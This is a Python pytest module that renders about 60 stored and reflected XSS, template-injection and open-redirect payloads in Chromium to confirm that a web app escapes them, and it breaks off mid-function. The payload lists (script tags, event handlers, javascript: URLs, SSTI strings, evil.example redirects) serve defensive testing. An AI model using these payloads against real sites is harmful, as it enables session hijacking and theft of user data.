"""Stored and reflected XSS, rendered in real Chromium.

Every user-typed field that Breachdesk renders gets every payload below: script tags, event handlers,
``javascript:`` and ``data:`` URLs, SVG and MathML, broken markup, attribute and tag break-outs, and
template syntax (``{{7*7}}`` must show literally, never ``49``). Each page is then loaded in Chromium and
checked: no dialog opened, ``window.__xss`` is unset, the page title is the app's own, no element, event
handler or script URL was injected into the DOM, and the payload reads on the page exactly as typed.

Stored payloads are read with the Content Security Policy *bypassed*, so a missing escape shows up as a
running script instead of being hidden by the CSP; the journeys through the real forms keep the CSP on and
also fail on any CSP violation, so both layers are checked.

Seeding, through the services: each payload gets its own account (display name = the payload), its own
subject (name, office, handle), a press referral (title, summary, outlet, journalist, comment, agreed
extension reason and "agreed by", share reason) and a content removal (title, summary, captured post
text, URL and author, evidence file name and description, platform report reference, comment).

Speed: ~590 page loads. ``run_jobs`` keeps one navigation in flight per tab, several tabs at once, and
each check reads the probe and all the texts it needs in one ``evaluate``. Chromium costs ~0.1 s of CPU
per load here, so the module's time is mostly Chromium's. Each test reports every failure it saw, naming
the payload, the page and the field, instead of stopping at the first.
"""

from __future__ import annotations

import io
import re
import time
from collections import deque
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import quote, urlencode, urlsplit

import pytest

from app.extensions import db
from app.models import Person, SocialHandle, User
from app.roles import ROLE_TITLES
from app.services import access as access_service
from app.services import deadlines as deadline_service
from app.services import evidence as evidence_service
from app.services.demo import DEMO_DOMAIN
from app.services.incidents import OpenRequest, PostInput, open_incident, take_transition
from app.services.passwords import hash_password
from app.services.users import find_by_email, get_or_create_team
from tests.browser.conftest import CONTEXT_OPTIONS, LiveServer, save_screenshot, seed_demo, sign_in_through_form

pytestmark = pytest.mark.browser

SENTINEL_TITLE = "XSSED"

# Single-line, no leading/trailing or doubled whitespace (so rendered text compares exactly), each at most
# 200 characters (the longest column), distinct even after a handle's normalisation (strip "@", lower-case).
PAYLOADS: list[str] = [
    "<script>alert(1)</script>",
    '"><script>alert(2)</script>',
    "'><script>confirm(3)</script>",
    "<img src=x onerror=alert(4)>",
    '<img src="x" onerror="window.__xss=5">',
    "<svg onload=alert(6)>",
    "<svg><script>prompt(7)</script></svg>",
    "<svg/onload=window.__xss=8>",
    "javascript:alert(9)",
    '<a href="javascript:alert(10)">click me</a>',
    "<iframe src=javascript:alert(11)>",
    '<iframe srcdoc="<script>parent.__xss=12</script>">',
    "<body onload=alert(13)>",
    "<details open ontoggle=alert(14)>",
    "<math><mtext></p><script>alert(15)</script>",
    "'-alert(16)-'",
    '";alert(17);//',
    "{{7*7}}",
    "{{config}}",
    "${7*7}",
    "{%print(7*7)%}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "#{7*7} <%= 7*7 %> [[7*7]]",
    "<!--<script>alert(24)</script>-->",
    "<b>unclosed bold",
    "</textarea><script>alert(26)</script>",
    f"</title><script>document.title='{SENTINEL_TITLE}'</script>",
    "<style>*{x:expression(alert(28))}</style>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgyOSk8L3NjcmlwdD4=",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgzMCk8L3NjcmlwdD4=">',
    "<embed src=javascript:alert(31)>",
    "<input autofocus onfocus=alert(32)>",
    "<marquee onstart=alert(33)>x</marquee>",
    "<video><source onerror=alert(34)></video>",
    "<audio src=x onerror=window.__xss=35>",
    "<form action=javascript:alert(36)><button>go</button></form>",
    '<base href="javascript:alert(37)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(38)">',
    "<scr<script>ipt>alert(39)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x40.js></SCRIPT>",
    "<ScRiPt>alert(41)</sCrIpT>",
    "&lt;script&gt;alert(42)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(43)&#62;",
    "\u202egnp.exe<script>alert(44)</script>",
    "\u200b<svg onload=alert(45)>\u200b",
    "null",
    "undefined",
    "<script>alert(48)</script>" * 7,
    '<a href="jav&#x09;ascript:alert(49)">tab</a>',
    '" autofocus onfocus="alert(50)',
    "' autofocus onfocus='window.__xss=51",
    "<x onclick=alert(52)>click</x>",
    '<noscript><p title="</noscript><img src=x onerror=alert(53)>">',
    "<template><script>alert(54)</script></template>",
    "`${alert(55)}`",
    '\\";alert(56);//',
    "</script><script>alert(57)</script>",
    "]]><script>alert(58)</script>",
    "<img src=x:alert(59) onerror=eval(src)>",
    "<svg><animate onbegin=alert(60) attributeName=x dur=1s>",
    "50%_off <i>x</i> Ünïcödé ☃ 💥",
]
IDS = [f"p{i:02d}" for i in range(len(PAYLOADS))]
assert len(PAYLOADS) >= 40
assert len({p.strip().lstrip("@").lower() for p in PAYLOADS}) == len(PAYLOADS), "payloads must be distinct"
assert all(len(p) <= 200 and p == p.strip() and "  " not in p and "\n" not in p for p in PAYLOADS)

ROLE_COMMS = "comms"
SHARE_TARGET = "rep"  # Rae Rep cannot read college incidents, so sharing with her is allowed
TABS = 6  # pages loading at once
LOAD_TIMEOUT_S = 10.0
SCREENSHOT_PAYLOADS = {0, 17, 26}  # <script>, {{7*7}}, </title> break-out
# Payloads typed through every real form (each journey is nine page loads; the rest go in through the services).
FORM_SAMPLE = [0, 3, 9, 17, 25, 26, 43, 49]


def share_reason(payload: str) -> str:
    return f"Shared: {payload}"


def evidence_name(payload: str) -> str:
    """A file name holding the payload. The app keeps only what follows the last slash (a path's folders)
    and drops control and direction-changing characters: the expected display name follows that rule."""
    return f"{payload} (evidence).txt"


# ------------------------------------------------------------------------------------------ the probe

# Tags the app's own pages never use: if one is in the DOM, markup was injected. Also every on* attribute,
# every script/data URL in a URL attribute, srcdoc, and a second autofocus.
PROBE_JS = r"""
([expectedTitle, selectors]) => {
  const problems = [];
  if (typeof window.__xss !== 'undefined') problems.push('window.__xss is set: ' + String(window.__xss));
  const title = document.title;
  if (expectedTitle !== null && title !== expectedTitle) problems.push('document.title is ' + JSON.stringify(title));
  if (expectedTitle === null && title.includes('XSSED')) problems.push('document.title is ' + JSON.stringify(title));
  const banned = 'script, iframe, frame, frameset, object, embed, img, svg, math, style, base, marquee, video, ' +
                 'audio, source, template, noscript, x, b, i, font, applet, animate, body meta, body link, ' +
                 'body title, head > :not(meta, title, link)';
  for (const el of document.querySelectorAll(banned)) {
    problems.push('injected element: ' + el.outerHTML.slice(0, 100));
  }
  const urlAttrs = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'content'];
  for (const el of document.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`event handler ${name} on <${tag}>`);
      if (urlAttrs.includes(name) && /^\s*(javascript|data|vbscript):/i.test(attr.value.replace(/[\t\n\r]/g, ''))) {
        problems.push(`script URL in ${name} of <${tag}>: ${attr.value.slice(0, 60)}`);
      }
      if (name === 'srcdoc') problems.push(`srcdoc on <${tag}>`);
    }
  }
  if (document.querySelectorAll('[autofocus]').length > 1) problems.push('more than one autofocus element');
  const texts = Object.fromEntries(selectors.map(
    (s) => [s, Array.from(document.querySelectorAll(s), (e) => e.innerText)]));
  return {problems, texts};
}
"""

TEXTS_JS = r"""
(selectors) => Object.fromEntries(selectors.map(
  (s) => [s, Array.from(document.querySelectorAll(s), (e) => e.innerText)]))
"""


class Watch:
    """One browser tab and everything it did that a payload could have caused: dialogs (recorded and
    dismissed), script errors, CSP refusals; plus the page loads and the last document's HTTP status."""

    def __init__(self, page, base_url: str) -> None:  # type: ignore[no-untyped-def]
        self.page = page
        self.base_url = base_url
        self.dialogs: list[str] = []
        self.errors: list[str] = []
        self.loads = 0
        self.status: int | None = None
        self.data: dict = {}  # what one job's steps pass to each other (an incident id, a reference)
        page.on("dialog", self._on_dialog)
        page.on("console", self._on_console)
        page.on("pageerror", lambda exc: self.errors.append(f"pageerror: {exc}"))
        page.on("load", self._on_load)
        page.on("response", self._on_response)

    def _on_dialog(self, dialog) -> None:  # type: ignore[no-untyped-def]
        self.dialogs.append(f"{dialog.type} dialog {dialog.message!r} @ {self.page.url}")
        dialog.dismiss()

    def _on_console(self, message) -> None:  # type: ignore[no-untyped-def]
        # A 4xx form page logs "Failed to load resource" for the document itself; an injected element that
        # loads something is caught by the DOM probe instead.
        if message.type == "error" and "Failed to load resource" not in message.text:
            self.errors.append(f"console: {message.text}")

    def _on_load(self, _page) -> None:  # type: ignore[no-untyped-def]
        self.loads += 1

    def _on_response(self, response) -> None:  # type: ignore[no-untyped-def]
        if response.request.is_navigation_request() and response.frame == self.page.main_frame:
            self.status = response.status

    def look(self, where: str, expected_title: str | None, *selectors: str) -> tuple[list[str], dict[str, list[str]]]:
        """Everything wrong on this page so far (each prefixed with ``where``; the record is cleared), and
        the rendered text of every element each selector matches, in one round trip."""
        found = [*self.dialogs, *self.errors]
        self.dialogs.clear()
        self.errors.clear()
        result = self.page.evaluate(PROBE_JS, [expected_title, list(selectors)])
        return [f"{where}: {problem}" for problem in found + result["problems"]], result["texts"]

    def problems(self, where: str, expected_title: str | None) -> list[str]:
        return self.look(where, expected_title)[0]

    def texts(self, *selectors: str) -> dict[str, list[str]]:
        """The rendered text (innerText) of every element each selector matches."""
        return self.page.evaluate(TEXTS_JS, list(selectors))

    def text(self, selector: str) -> str | None:
        found = self.texts(selector)[selector]
        return found[0] if found else None


def html_title(text: str) -> str:
    """What ``document.title`` reads for "<text> · Breachdesk": ASCII whitespace collapsed and trimmed."""
    return re.sub(r"[ \t\n\f\r]+", " ", f"{text} · Breachdesk").strip(" \t\n\f\r")


class Check:
    """Collects mismatches, so a run reports all of them instead of the first."""

    def __init__(self, where: str) -> None:
        self.where = where
        self.failures: list[str] = []

    def add(self, problems: list[str]) -> Check:
        self.failures += problems
        return self

    def equal(self, what: str, got: object, expected: object) -> Check:
        if got != expected:
            self.failures.append(f"{self.where} {what}: expected {expected!r}, got {got!r}")
        return self

    def contains(self, what: str, got: str | None, part: str) -> Check:
        if got is None or part not in got:
            self.failures.append(f"{self.where} {what}: {part!r} not shown in {got!r}")
        return self


# ------------------------------------------------------------------------------------- the runner


@dataclass
class Step:
    """``act`` starts one navigation (a link followed, a form submitted); once the page has loaded,
    ``check`` returns what is wrong with it."""

    act: Callable[[Watch], None]
    check: Callable[[Watch], list[str]]
    status: int | None = 200


@dataclass
class Job:
    label: str
    steps: list[Step]


def navigate(path: str) -> Callable[[Watch], None]:
    # Started from inside the page so this call returns at once and other tabs load meanwhile.
    return lambda watch: watch.page.evaluate("(u) => { setTimeout(() => window.location.assign(u), 0); }",
                                             watch.base_url + path)


def run_jobs(tabs: list[Watch], jobs: list[Job], fresh: Callable[[Watch], Watch] | None = None) -> list[str]:
    """Run each job's steps in order, one job per tab at a time, all tabs at once; return every failure.
    With ``fresh``, each job starts in the tab it returns in place of the last job's."""
    queue = deque(jobs)
    running: dict[int, list] = {}  # tab index -> [job, step index, loads before the step, started at]
    failures: list[str] = []

    def start(tab: int) -> None:
        while True:
            job, index = running[tab][0], running[tab][1]
            if index == 0 and fresh is not None:
                tabs[tab] = fresh(tabs[tab])
            watch = tabs[tab]
            running[tab][2:] = [watch.loads, time.monotonic()]
            watch.status = None
            try:
                # Only the front tab gets animation frames, which Playwright's clicks and fills wait for.
                watch.page.bring_to_front()
                job.steps[index].act(watch)
                return
            except Exception as exc:  # noqa: BLE001 - reported with the job's label, the run goes on
                failures.append(f"{job.label} step {index + 1}: could not start: {exc}")
                del running[tab]
                if not queue:
                    return
                watch.data = {}
                running[tab] = [queue.popleft(), 0, 0, 0.0]

    while queue or running:
        for tab in range(len(tabs)):
            if tab not in running and queue:
                tabs[tab].data = {}
                running[tab] = [queue.popleft(), 0, 0, 0.0]
                start(tab)
        finished = False
        for tab in list(running):
            job, index, before, started = running[tab]
            watch = tabs[tab]
            if watch.loads > before:
                finished = True
                step = job.steps[index]
                if step.status is not None and watch.status != step.status:
                    failures.append(f"{job.label} step {index + 1}: HTTP {watch.status}, expected {step.status} "
                                    f"at {watch.page.url}")
                try:
                    failures += [f"{job.label}: {problem}" for problem in step.check(watch)]
                except Exception as exc:  # noqa: BLE001
                    failures.append(f"{job.label} step {index + 1}: check failed at {watch.page.url}: {exc}")
                if index + 1 < len(job.steps):
                    running[tab][1] = index + 1
                    start(tab)
                else:
                    del running[tab]
            elif time.monotonic() - started > LOAD_TIMEOUT_S:
                failures.append(f"{job.label} step {index + 1}: no page load within {LOAD_TIMEOUT_S} s "
                                f"(at {watch.page.url})")
                del running[tab]
        if not finished:
            tabs[0].page.wait_for_timeout(5)  # lets Playwright deliver the tabs' events
    return failures


def report(failures: list[str], checked: int) -> None:
    assert not failures, f"{len(failures)} problem(s) in {checked} checks:\n  " + "\n  ".join(failures)


# ------------------------------------------------------------------------------------------- the data


@dataclass
class PayloadData:
    index: int
    payload: str
    email: str
    person_id: int
    press_id: int
    press_reference: str
    removal_id: int
    removal_reference: str
    evidence_display: str

    @property
    def label(self) -> str:
        return f"{IDS[self.index]} {self.payload!r}"


@dataclass
class World:
    live_server: LiveServer
    password: str
    items: list[PayloadData]


def _seed_payload(session, registry, live_server: LiveServer, index: int, payload: str, password_hash: str,
                  rep: User) -> PayloadData:  # type: ignore[no-untyped-def]
    # One argon2 hash for every account (hashing each would cost ~50 ms apiece).
    user = User(email=f"xss{index}@{DEMO_DOMAIN}", name=payload, role=ROLE_COMMS, password_hash=password_hash,
                team=get_or_create_team(session, "communications"))
    person = Person(name=payload, role="contributor", office=payload)
    person.handles.append(SocialHandle(platform="x", handle=payload))
    session.add_all([user, person])
    session.flush()

    press = open_incident(session, registry, OpenRequest(
        workflow_key="press-referral", title=payload, summary=payload, subject=person, assignee=user,
    ), actor=user)
    take_transition(session, registry, press, "forward_to_press_office", actor=user,
                    values={"outlet": payload, "journalist": payload}, comment=payload)
    acknowledge = next(d for d in press.deadlines if d.is_live and d.key == "acknowledge")
    deadline_service.agree_extension(session, press, acknowledge, actor=user, reason=payload, agreed_by=payload,
                                     by="2 working days")
    access_service.share(session, press, actor=user, with_user=rep, reason=share_reason(payload))

    removal = open_incident(session, registry, OpenRequest(
        workflow_key="content-removal", title=payload, summary=payload, subject=person, assignee=user,
        post=PostInput(platform="x", url=payload, author_handle=payload, text=payload),
    ), actor=user)
    evidence = evidence_service.capture_file(
        session, removal, actor=user, filename=evidence_name(payload), stream=io.BytesIO(b"plain evidence text\n"),
        folder=live_server.app.config["BREACHDESK"].evidence_path, description=payload)
    take_transition(session, registry, removal, "report_to_platform", actor=user,
                    values={"platform_report_reference": payload}, comment=payload)
    return PayloadData(index=index, payload=payload, email=user.email, person_id=person.id, press_id=press.id,
                       press_reference=press.reference, removal_id=removal.id, removal_reference=removal.reference,
                       evidence_display=evidence.original_name)


@pytest.fixture(scope="module")
def world(live_server: LiveServer) -> Iterator[World]:
    """The demo organisation plus every payload in every stored field (read-only for the module's tests,
    except the form journeys, which only add incidents of their own)."""
    seeded = seed_demo(live_server)
    registry = live_server.app.extensions["breachdesk.workflows"]
    session = db.session
    rep = find_by_email(session, f"{SHARE_TARGET}@{DEMO_DOMAIN}")
    assert rep is not None
    password_hash = hash_password(seeded.password)
    items = [_seed_payload(session, registry, live_server, i, p, password_hash, rep) for i, p in enumerate(PAYLOADS)]
    session.commit()
    db.session.remove()
    yield World(live_server=live_server, password=seeded.password, items=items)
    db.session.remove()


@pytest.fixture(scope="module")
def comms_state(browser, world: World) -> dict:  # type: ignore[no-untyped-def]
    """Chris Comms, signed in once through the form; tabs start from this storage state."""
    context = browser.new_context(base_url=world.live_server.url, **CONTEXT_OPTIONS)
    try:
        sign_in_through_form(context.new_page(), ROLE_COMMS, world.password, lambda *_: None)
        return context.storage_state()
    finally:
        context.close()


class Tabs:
    """``tabs(n, state=None, csp=False, own_context=False)``: n watched tabs, closed after the test.
    The CSP is bypassed unless ``csp``; ``own_context`` gives each tab its own cookies (its own sign-in).
    ``tabs.signed_out(watch)`` swaps a tab for a new one in a new context: nothing of the last job's sign-in
    (a cookie still being set by a late response) can reach the next job."""

    def __init__(self, browser, base_url: str) -> None:  # type: ignore[no-untyped-def]
        self.browser = browser
        self.base_url = base_url
        self.contexts: list = []
        self.on_new_context: Callable[[object, Watch], None] = lambda context, watch: None

    def _context(self, state: dict | None, csp: bool):  # type: ignore[no-untyped-def]
        options = {**CONTEXT_OPTIONS, "bypass_csp": not csp}
        if state is not None:
            options["storage_state"] = state
        context = self.browser.new_context(base_url=self.base_url, **options)
        context.set_default_timeout(10_000)
        self.contexts.append(context)
        return context

    def __call__(self, n: int = TABS, state: dict | None = None, csp: bool = False,
                 own_context: bool = False) -> list[Watch]:
        shared = None if own_context else self._context(state, csp)
        return [self._watch(shared or self._context(state, csp)) for _ in range(n)]

    def _watch(self, context) -> Watch:  # type: ignore[no-untyped-def]
        watch = Watch(context.new_page(), self.base_url)
        self.on_new_context(context, watch)
        return watch

    def signed_out(self, old: Watch) -> Watch:
        old.page.context.close()
        self.contexts.remove(old.page.context)
        return self._watch(self._context(None, False))

    def close(self) -> None:
        for context in self.contexts:
            context.close()


@pytest.fixture
def tabs(browser, world: World) -> Iterator[Tabs]:  # type: ignore[no-untyped-def]
    made = Tabs(browser, world.live_server.url)
    yield made
    made.close()


def shoot(watch: Watch, item_index: int, step: str) -> None:
    if item_index in SCREENSHOT_PAYLOADS:
        save_screenshot(watch.page, f"test_xss-{IDS[item_index]}", step)


# ------------------------------------------------------------------------------------- page checks


HEADER = "header .who > span"


def header_text(payload: str) -> list[str]:
    """The signed-in user's name in the header, then their role."""
    return [f"{payload} ({ROLE_TITLES[ROLE_COMMS]})"]


def check_press_page(watch: Watch, item: PayloadData) -> list[str]:
    p = item.payload
    where = f"press referral {item.press_reference}"
    problems, t = watch.look(where, html_title(item.press_reference), HEADER, "main h1",
                             "section.main-col > p.prewrap", "dl.facts a[href*='/people/']",
                             "dl.facts dd:nth-of-type(3)", "dl.facts dd:nth-of-type(4)", "ol.history > li > strong",
                             "ol.history p.comment", "ol.history dd", "ul.deadlines li", "aside.side-col")
    check = Check(where).add(problems)
    check.equal("header", t[HEADER], header_text(p))
    check.equal("title", t["main h1"], [p])
    check.equal("summary", t["section.main-col > p.prewrap"], [p])
    check.equal("subject link", t["dl.facts a[href*='/people/']"], [p])
    check.equal("assignee", t["dl.facts dd:nth-of-type(3)"], [p])
    check.contains("opened by", "".join(t["dl.facts dd:nth-of-type(4)"]), f" by {p}")
    check.equal("history actors", set(t["ol.history > li > strong"]), {p})
    comments = t["ol.history p.comment"]
    for expected in (p, share_reason(p)):  # the transition's and the extension's comment, the share's reason
        if comments.count(expected) < (2 if expected == p else 1):
            check.failures.append(f"{check.where} history comments: {expected!r} missing from {comments!r}")
    check.equal("outlet and journalist", t["ol.history dd"], [p, p])
    check.contains("extension", "\n".join(t["ul.deadlines li"]), f"agreed by {p}: {p}")
    check.contains("share reason", "".join(t["aside.side-col"]), f"): {share_reason(p)}")
    if "7*7" in p:
        check.equal("template evaluated", "49" in "".join(t["main h1"]), False)
    return check.failures


def check_removal_page(watch: Watch, item: PayloadData) -> list[str]:
    p = item.payload
    where = f"content removal {item.removal_reference}"
    problems, t = watch.look(where, html_title(item.removal_reference), HEADER, "main h1",
                             "section.main-col > p.prewrap", "article.post > p.muted", "article.post blockquote",
                             "article.post p.break", "article.post p.hash", "ul.evidence li > a",
                             "ul.evidence li > span.muted", "ul.evidence li span.hash", "ol.history > li > strong",
                             "ol.history p.comment", "ol.history dd")
    check = Check(where).add(problems)
    check.equal("header", t[HEADER], header_text(p))
    check.equal("title", t["main h1"], [p])
    check.equal("summary", t["section.main-col > p.prewrap"], [p])
    check.equal("post author", t["article.post > p.muted"], [f"x · {p}"])
    check.equal("post text", t["article.post blockquote"], [p])
    check.equal("post URL", t["article.post p.break"], [f"URL: {p}"])
    check.contains("post captured by", "".join(t["article.post p.hash"]), f" by {p}")
    check.equal("evidence name", t["ul.evidence li > a"], [item.evidence_display])
    check.contains("evidence description", "".join(t["ul.evidence li > span.muted"]), f", {p})")
    check.contains("evidence captured by", "".join(t["ul.evidence li span.hash"]), f" by {p}")
    check.equal("history actors", set(t["ol.history > li > strong"]), {p})
    check.equal("transition comment", t["ol.history p.comment"], [p])
    check.equal("platform report reference", t["ol.history dd"], [p])
    return check.failures


def check_person_page(watch: Watch, item: PayloadData) -> list[str]:
    p = item.payload
    where = f"person {item.person_id}"
    problems, t = watch.look(where, html_title(p), HEADER, "main h1", "dl.facts dd", "main ul > li")
    check = Check(where).add(problems)
    check.equal("header", t[HEADER], header_text(p))
    check.equal("name", t["main h1"], [p])
    check.equal("office and handle", t["dl.facts dd"][1:], [p, f"x: {p}"])
    check.equal("incidents", sorted(t["main ul > li"]),
                sorted([f"{item.press_reference} {p}", f"{item.removal_reference} {p}"]))
    return check.failures


# ------------------------------------------------------------------------------------------------ tests


def test_the_probe_sees_an_unescaped_payload(tabs) -> None:  # type: ignore[no-untyped-def]
    """The checks are not blind: payloads written into a page unescaped are all caught."""
    (watch,) = tabs(1)
    watch.page.set_content(
        "<title>x</title><main><img src=x onerror=alert(1)><svg onload=\"window.__xss=1\"></svg>"
        "<script>document.title='XSSED'</script><a href='javascript:alert(2)'>x</a></main>")
    watch.page.wait_for_function("() => window.__xss === 1")
    problems = watch.problems("canary", "x")
    for expected in ("alert dialog '1'", "window.__xss is set", "document.title is", "event handler onerror",
                     "script URL in href", "injected element: <script>"):
        assert any(expected in problem for problem in problems), (expected, problems)


def test_stored_payloads_show_as_typed(tabs, world: World) -> None:  # type: ignore[no-untyped-def]
    """Per payload, in its own signed-out tab: the sign-in page with ?next=<payload>; the form refused (no
    password) with the payload as the e-mail address, shown back; the payload's account signing in (still
    with ?next=<payload>: it must land on the incident list, header showing the payload as the name); then
    its press referral, its content removal and its subject's page."""
    def start(item: PayloadData) -> Callable[[Watch], None]:
        return navigate("/login?" + urlencode({"next": item.payload}))

    def submit(email: str, password: str) -> Callable[[Watch], None]:
        def act(watch: Watch) -> None:
            watch.page.fill("input[name=email]", email)
            watch.page.fill("input[name=password]", password)
            watch.page.click("button[type=submit].primary", no_wait_after=True)
        return act

    def refused(watch: Watch, item: PayloadData) -> list[str]:
        problems, _ = watch.look("refused sign-in", html_title("Sign in"))
        if item.index == 2:
            save_screenshot(watch.page, "test_xss", "login-refused")
        return Check("refused sign-in").add(problems).equal(
            "e-mail shown back", watch.page.locator("input[name=email]").input_value(), item.payload).failures

    def landed(watch: Watch, item: PayloadData) -> list[str]:
        problems, t = watch.look("after sign-in", html_title("Incidents"), HEADER)
        check = Check("after sign-in").add(problems).equal("header", t[HEADER], header_text(item.payload))
        url = urlsplit(watch.page.url)
        return check.equal("landed on", f"{url.scheme}://{url.netloc}{url.path}",
                           f"{world.live_server.url}/incidents").failures

    def page_check(check: Callable[[Watch, PayloadData], list[str]], step: str) -> Callable[[Watch], list[str]]:
        def run(watch: Watch, item: PayloadData) -> list[str]:
            shoot(watch, item.index, step)
            return check(watch, item)
        return run

    press, removal, person = (page_check(check_press_page, "press-referral"),
                              page_check(check_removal_page, "content-removal"), page_check(check_person_page, "person"))
    jobs = [Job(item.label, [
        Step(start(item), lambda w: w.problems("sign-in page", html_title("Sign in"))),
        Step(submit(item.payload, ""), lambda w, i=item: refused(w, i), status=400),
        Step(submit(item.email, world.password), lambda w, i=item: landed(w, i)),
        Step(navigate(f"/incidents/{item.press_id}"), lambda w, i=item: press(w, i)),
        Step(navigate(f"/incidents/{item.removal_id}"), lambda w, i=item: removal(w, i)),
        Step(navigate(f"/people/{item.person_id}"), lambda w, i=item: person(w, i)),
    ]) for item in world.items]
    report(run_jobs(tabs(own_context=True), jobs, fresh=tabs.signed_out), sum(len(job.steps) for job in jobs))


def test_incident_list_shows_every_title_and_assignee(tabs, world: World, comms_state: dict) -> None:  # type: ignore[no-untyped-def]
    """Every page of the list: titles and assignees (the payload accounts) are text, never markup."""
    (watch,) = tabs(1, state=comms_state)
    failures: list[str] = []
    titles: list[str] = []
    assignees: list[str] = []
    path: str | None = "/incidents?status=all"
    pages = 0
    while path is not None and pages < 10:
        response = watch.page.goto(path)
        assert response is not None and response.status == 200
        pages += 1
        problems, t = watch.look(f"list page {pages}", html_title("Incidents"), "table.list tbody td.title .title-text",
                                 "table.list tbody td.assignee")
        failures += problems
        titles += t["table.list tbody td.title .title-text"]
        assignees += t["table.list tbody td.assignee"]
        if pages == 1:
            save_screenshot(watch.page, "test_xss", "incident-list")
        older = watch.page.locator("nav.pager a", has_text="Older incidents")
        path = older.get_attribute("href") if older.count() else None
    for payload in PAYLOADS:
        if titles.count(payload) < 2:
            failures.append(f"list: title {payload!r} shown {titles.count(payload)} times, expected 2 or more")
        if assignees.count(payload) < 2:
            failures.append(f"list: assignee {payload!r} shown {assignees.count(payload)} times, expected 2")
    report(failures, pages)


PAGER_JS = """() => Object.fromEntries(Array.from(document.querySelectorAll('nav.pager a'), (a) => {
    const params = new URL(a.href).searchParams;
    return [a.innerText, ['q', 'workflow', 'status'].map((k) => params.get(k))];
}))"""


def test_search_and_filter_parameters_show_as_typed(tabs, world: World, comms_state: dict) -> None:  # type: ignore[no-untyped-def]
    """?q=, ?workflow=, ?status=, ?state= and ?before= on /incidents (and, for the form sample, the page of a
    workflow whose key is the payload: workflow pages show no user-typed data, only the key in the URL)."""
    def searched(watch: Watch, item: PayloadData) -> list[str]:
        p = item.payload
        problems, t = watch.look("search", html_title("Incidents"), "table.list tbody td.title .title-text")
        check = Check("search").add(problems)
        check.equal("search box", watch.page.locator("#q").input_value(), p)
        titles = t["table.list tbody td.title .title-text"]
        if titles.count(p) < 2:
            check.failures.append(f"search: title found {titles.count(p)} times in {titles!r}")
        # The "First page" link carries the filters back: each exactly as given, or dropped as invalid.
        q, workflow, status = watch.page.evaluate(PAGER_JS).get("First page", [None] * 3)
        check.equal("pager link q", q, p)
        if workflow not in (None, "", p) or status not in (None, "open", p):  # dropped, normalised or kept
            check.failures.append(f"search: pager link workflow={workflow!r} status={status!r}")
        if item.index == 17:
            save_screenshot(watch.page, "test_xss", "search")
        return check.failures

    def empty(watch: Watch, item: PayloadData) -> list[str]:
        check = Check("empty search").add(watch.problems("empty search", html_title("Incidents")))
        check.equal("search box", watch.page.locator("#q").input_value(), item.payload)
        return check.contains("message", watch.text("div.empty"), "No incidents match.").failures

    jobs = [Job(item.label, [
        Step(navigate("/incidents?" + urlencode({"q": item.payload, "workflow": item.payload,
                                                 "status": item.payload, "before": 2**31 - 1})),
             lambda w, i=item: searched(w, i)),
        Step(navigate("/incidents?" + urlencode({"q": item.payload, "state": item.payload, "before": item.payload})),
             lambda w, i=item: empty(w, i)),
    ] + ([Step(navigate("/workflows/" + quote(item.payload, safe="")), lambda w: w.problems("workflow page", None),
               status=404)] if item.index in FORM_SAMPLE else [])) for item in world.items]
    report(run_jobs(tabs(state=comms_state), jobs), sum(len(job.steps) for job in jobs))


HOSTILE_NEXT = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/",
    "https://evil.example/",
    "/\\evil.example/",
    "\\\\evil.example/",
    "/\t/evil.example/",
    "/%2F%2Fevil.example/",
    "/%5Cevil.example/",
    "/incidents?q=<script>alert(1)</script>",
]


def test_sign_in_never_follows_a_hostile_next(tabs, world: World, live_server: LiveServer) -> None:  # type: ignore[no-untyped-def]
    """After signing in, ?next= never leads off the site or to a script URL."""
    off_site: list[str] = []

    def stand_in_off_site(context, watch: Watch) -> None:  # type: ignore[no-untyped-def]
        def stand_in(route) -> None:  # type: ignore[no-untyped-def]
            off_site.append(f"{route.request.url} (from {watch.data.get('next')!r})")
            route.fulfill(status=200, content_type="text/html", body="<title>off site</title>off site")
        context.route(re.compile("^(?!" + re.escape(live_server.url) + ")[a-z]+://"), stand_in)

    tabs.on_new_context = stand_in_off_site
    tab_list = tabs(3, own_context=True)

    def start(target: str) -> Callable[[Watch], None]:
        def act(watch: Watch) -> None:
            watch.data["next"] = target
            navigate("/login?" + urlencode({"next": target}))(watch)
        return act

    def sign_in(watch: Watch) -> None:
        watch.page.fill("input[name=email]", f"{ROLE_COMMS}@{DEMO_DOMAIN}")
        watch.page.fill("input[name=password]", world.password)
        watch.page.click("button[type=submit].primary", no_wait_after=True)

    def landed(watch: Watch) -> list[str]:
        origin = "{0.scheme}://{0.netloc}".format(urlsplit(watch.page.url))
        check = Check(f"next={watch.data['next']!r}").equal("landed on", origin, live_server.url)
        return check.add(watch.problems("after sign-in", None)).failures

    jobs = [Job(f"next{i} {target!r}", [
        Step(start(target), lambda w: w.problems("sign-in page", html_title("Sign in"))),
        Step(sign_in, landed, status=None),
    ]) for i, target in enumerate(HOSTILE_NEXT)]
    failures = run_jobs(tab_list, jobs, fresh=tabs.signed_out)
    report(failures + [f"went off site: {url}" for url in off_site], len(jobs) * 2)


# -------------------------------------------------------------------------------- through the forms


def open_details(container, summary_text: str):  # type: ignore[no-untyped-def]
    """The <details> whose summary reads ``summary_text``, opened as a person would (if not open already)."""
    details = container.locator("details").filter(
        has=container.page.locator("summary", has_text=re.compile(rf"^\s*{re.escape(summary_text)}\s*$")))
    if not details.evaluate("(d) => d.open"):
        details.locator("summary").click()
    return details


def click_submit(form_area, name: str) -> None:  # type: ignore[no-untyped-def]
    form_area.get_by_role("button", name=name, exact=True).click(no_wait_after=True)


EXTEND_BY_MAXLENGTH = 40  # the field's maxlength: Chromium stops typing there


def form_journey(item: PayloadData) -> Job:
    """Chris Comms types the payload into every form of a new press referral."""
    p = item.payload
    typed_extend_by = p[:EXTEND_BY_MAXLENGTH]

    def title(watch: Watch) -> str:
